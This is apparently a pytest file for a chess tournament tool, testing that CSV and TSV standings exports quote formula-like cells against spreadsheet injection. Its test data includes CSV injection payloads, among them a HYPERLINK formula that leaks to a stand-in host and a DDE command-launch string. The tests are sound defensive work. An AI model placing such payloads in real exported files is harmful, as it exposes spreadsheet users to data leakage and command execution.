"""CSV/TSV exports never hand a spreadsheet a formula (OWASP "CSV injection"), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tiebreak.cli import main
from tiebreak.presenters.standings import delimited, spreadsheet_safe
from tiebreak.readers import example_text

EVIL = '=HYPERLINK("http://x.test/?leak","Click")'


def _event_with_names(*names: str) -> str:
    """The Arena example with the first players renamed (the name field is 33 columns of the 001 line)."""
    lines = example_text("arena").splitlines()
    out, k = [], 0
    for line in lines:
        if line.startswith("001") and k < len(names):
            line = line[:14] + names[k].ljust(33)[:33] + line[47:]
            k += 1
        out.append(line)
    return "\n".join(out) + "\n"


@pytest.mark.parametrize("cell", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1"])
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1", "+0.5", "-0.25", "12", "1e3", "", "Chen, Ava", "–", "O'Neil"])
def test_numbers_and_plain_text_are_unchanged(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_delimited_neutralises_every_cell(fmt: str) -> None:
    text = delimited(["Name", "X"], [[EVIL, "-1"], ["@x", "+0.5"]], fmt)
    rows = list(csv.reader(io.StringIO(text), delimiter="," if fmt == "csv" else "\t"))
    assert rows == [["Name", "X"], ["'" + EVIL, "-1"], ["'@x", "+0.5"]]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_cli_export_neutralises_names(fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "evil.trf"
    path.write_text(_event_with_names('=HYPERLINK("http://x.test","a")', "-Smith, Bo", "@Evil, Cy"))
    assert main(["standings", str(path), "--format", fmt]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out), delimiter="," if fmt == "csv" else "\t"))
    names = {r[2] for r in rows[1:]}
    assert {'\'=HYPERLINK("http://x.test","a")', "'-Smith, Bo", "'@Evil, Cy"} <= names
    assert not any(c.startswith(("=", "@")) for r in rows for c in r)
    assert all(c == "" or float(c) == float(c) for r in rows[1:] for c in r[3:])  # values still numbers
